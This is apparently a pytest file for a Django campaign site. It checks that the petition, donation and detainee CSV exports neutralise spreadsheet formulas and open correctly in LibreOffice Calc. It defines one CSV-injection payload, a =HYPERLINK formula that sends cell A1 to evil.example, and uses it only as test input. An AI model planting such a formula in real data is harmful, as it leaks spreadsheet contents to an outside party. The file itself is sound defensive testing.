"""Every CSV the site makes neutralises spreadsheet formulas and leaves other values alone.

A value that starts with = + - @, a tab or a carriage return is run as a formula by
spreadsheets (=HYPERLINK can send the sheet's contents away); one apostrophe in front
makes it text. Empty and ordinary values, numbers included, are written as they are.
"""

import csv
import datetime
import io
import shutil
import subprocess
from xml.etree import ElementTree

import pytest
from django.contrib import admin
from django.utils import timezone

from campaign.admin import SignatureAdmin, export_confirmed_signatures
from campaign.models import Petition, Signature
from common.exports import csv_safe
from conftest import make_detainee, make_donation
from donations.admin import DonationAdmin
from donations.models import Donation

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def rows_of(response, skip=0):
    text = body(response).decode()
    return list(csv.reader(io.StringIO(text, newline="")))[skip:]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("", ""),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_safe_prefixes_only_text_that_a_spreadsheet_would_run(value, expected):
    assert csv_safe(value) == expected


def test_the_signatures_export_neutralises_formulas_and_keeps_empty_values(rf, alice, db):
    petition = Petition.objects.create(title="Free them", text="x", addressees="A", goal=10)
    Signature.objects.create(
        petition=petition,
        name=FORMULA,
        email="anna@example.org",
        country="FR",
        comment="",
        language="en",
        confirmed_at=timezone.now(),
    )
    request = rf.post("/en/admin/campaign/signature/")
    request.user = alice
    response = export_confirmed_signatures(
        SignatureAdmin(Signature, admin.site), request, Signature.objects.all()
    )
    header, row = rows_of(response)
    values = dict(zip(header, row, strict=True))
    assert values["name"] == "'" + FORMULA
    assert values["comment"] == ""


def test_the_donations_export_neutralises_formulas_and_keeps_empty_values(rf, alice, db):
    make_donation(donor_name=FORMULA, stripe_customer_id="")
    request = rf.post("/en/admin/donations/donation/")
    request.user = alice
    response = DonationAdmin(Donation, admin.site).export_csv(request, Donation.objects.all())
    header, row = rows_of(response)
    values = dict(zip(header, row, strict=True))
    assert values["donor_name"] == "'" + FORMULA
    assert values["stripe_customer_id"] == ""
    assert values["amount"] == "50.00"
    assert not any(value == "'" for value in row)


def test_the_detainees_export_neutralises_formulas_and_keeps_empty_values(client, db):
    make_detainee(hometown_en=FORMULA, capture_place_en="")
    response = client.get("/en/prisoners/export.csv")
    header, row = rows_of(response)
    values = dict(zip(header, row, strict=True))
    assert values["hometown"] == "'" + FORMULA
    assert values["capture_place"] == ""


# Read back as a spreadsheet reads them ---------------------------------------------------------
#
# Python's csv module and LibreOffice Calc must both see one header line, then one row per
# record with the same cells: amounts as numbers, times as dates, text as text (an empty
# field empty, Armenian intact, a formula never run).

OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
needs_soffice = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed"
)


def calc_rows(content, tmp_path):
    """The cells LibreOffice Calc reads from `content`, as (type, value) per cell, per row.

    Opened as a person in an English locale opens a UTF-8 CSV (comma, double quote, first
    line 1, special numbers detected), then saved as flat ODS, whose XML says each cell's type.
    """
    source = tmp_path / "export.csv"
    source.write_bytes(content)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--infilter=CSV:44,34,76,1,,1033,false,true",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    tree = ElementTree.parse(tmp_path / "export.fods")  # noqa: S314 (our own LibreOffice wrote it)
    rows = []
    for row in tree.iter(f"{{{TABLE}}}table-row"):
        cells = []
        for cell in row.iter(f"{{{TABLE}}}table-cell"):
            repeat = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            kind = cell.get(f"{{{OFFICE}}}value-type")
            if f"{{{TABLE}}}formula" in cell.attrib:
                kind = "formula"
            if kind == "float":
                value = cell.get(f"{{{OFFICE}}}value")
            elif kind == "date":
                value = cell.get(f"{{{OFFICE}}}date-value")
            else:
                value = "\n".join("".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p"))
            cells.extend([(kind, value)] * min(repeat, 100))
        while cells and cells[-1] == (None, ""):
            cells.pop()  # the sheet's empty columns to the right
        if cells:
            rows.append(cells)
    return rows


def assert_python_and_calc_agree(content, tmp_path):
    """Both readers see the same grid; returns Calc's rows for checks of the cell types."""
    python_rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    calc = calc_rows(content, tmp_path)
    assert len(calc) == len(python_rows), (calc, python_rows)
    width = len(python_rows[0])
    for python_row, calc_row in zip(python_rows, calc, strict=True):
        assert len(python_row) == width
        calc_row = calc_row + [(None, "")] * (width - len(calc_row))
        for text, (kind, value) in zip(python_row, calc_row, strict=True):
            assert kind != "formula", text
            if kind == "string" or kind is None:
                assert value == text
    return calc


@pytest.fixture
def export_request(rf, alice):
    request = rf.post("/en/admin/")
    request.user = alice
    return request


@needs_soffice
def test_the_open_data_csv_has_one_header_line_and_opens_in_calc(client, db, tmp_path):
    make_detainee(hometown_en="", charges_en="Espionage, “terrorism”")
    response = client.get("/en/prisoners/export.csv")
    content = body(response)
    python_rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
    assert python_rows[0][:2] == ["slug", "name_en"]
    assert len(python_rows) == 2 and not any(line.startswith("#") for line in python_rows[0])
    assert content.count(b"\r\n") == 2  # RFC 4180 line ends, one per record
    calc = assert_python_and_calc_agree(content, tmp_path)
    header = [value for _kind, value in calc[0]]
    values = dict(zip(header, calc[1], strict=False))
    assert values["name_hy"] == ("string", "Անի Կարապետյան")
    assert values["days_held"][0] == "float"


@needs_soffice
def test_the_donations_csv_gives_units_currency_and_local_times_and_opens_in_calc(
    export_request, db, tmp_path, settings
):
    paid = timezone.make_aware(datetime.datetime(2026, 7, 14, 12, 30), datetime.UTC)
    make_donation(
        amount=5050,
        amount_refunded=0,
        currency="USD",
        donor_name="Նարե Սարգսյան",
        paid_at=paid,
        stripe_customer_id="",
    )
    make_donation(donor_name="-1+1", amount=100000)
    response = DonationAdmin(Donation, admin.site).export_csv(
        export_request, Donation.objects.all()
    )
    content = body(response)
    header, first, second = list(csv.reader(io.StringIO(content.decode(), newline="")))
    values = dict(zip(header, first, strict=True))
    assert (values["amount"], values["currency"]) == ("50.50", "USD")
    assert values["amount_refunded"] == "0.00"
    # 12:30 UTC in July is 14:30 in Paris, and the file says which zone its times are in.
    assert values["paid_at"] == "2026-07-14 14:30:00"
    assert values["time_zone"] == settings.TIME_ZONE == "Europe/Paris"
    assert "'" not in "".join(value for value in first if value != values["donor_name"])
    assert dict(zip(header, second, strict=True))["donor_name"] == "'-1+1"
    calc = assert_python_and_calc_agree(content, tmp_path)
    calc_values = dict(zip(header, calc[1], strict=False))
    assert calc_values["amount"] == ("float", "50.5")
    assert calc_values["paid_at"] == ("date", "2026-07-14T14:30:00")
    assert calc_values["donor_name"] == ("string", "Նարե Սարգսյան")
    assert dict(zip(header, calc[2], strict=False))["amount"] == ("float", "1000")


@needs_soffice
def test_the_signatures_csv_gives_local_times_and_opens_in_calc(export_request, db, tmp_path):
    petition = Petition.objects.create(title="Free them", text="x", addressees="A", goal=10)
    confirmed = timezone.make_aware(datetime.datetime(2026, 1, 5, 23, 15), datetime.UTC)
    Signature.objects.create(
        petition=petition,
        name="Élise Durand",
        email="elise@example.org",
        country="FR",
        comment="",
        language="fr",
        confirmed_at=confirmed,
    )
    response = export_confirmed_signatures(
        SignatureAdmin(Signature, admin.site), export_request, Signature.objects.all()
    )
    content = body(response)
    header, row = list(csv.reader(io.StringIO(content.decode(), newline="")))
    values = dict(zip(header, row, strict=True))
    assert values["confirmed"] == "2026-01-06 00:15:00"  # the next day in Paris
    assert values["time_zone"] == "Europe/Paris"
    assert values["comment"] == ""
    calc = assert_python_and_calc_agree(content, tmp_path)
    assert dict(zip(header, calc[1], strict=False))["confirmed"] == ("date", "2026-01-06T00:15:00")


def test_staff_exports_stream_their_header_before_reading_the_table(
    export_request, db, django_assert_num_queries
):
    # The first line leaves before any row is read, so a 100,000-row export starts at once.
    make_donation()
    response = DonationAdmin(Donation, admin.site).export_csv(
        export_request, Donation.objects.all()
    )
    assert response.streaming
    lines = iter(response.streaming_content)
    with django_assert_num_queries(0):
        assert next(lines).startswith(b"uuid,created_at,")
    assert len(list(lines)) == 1
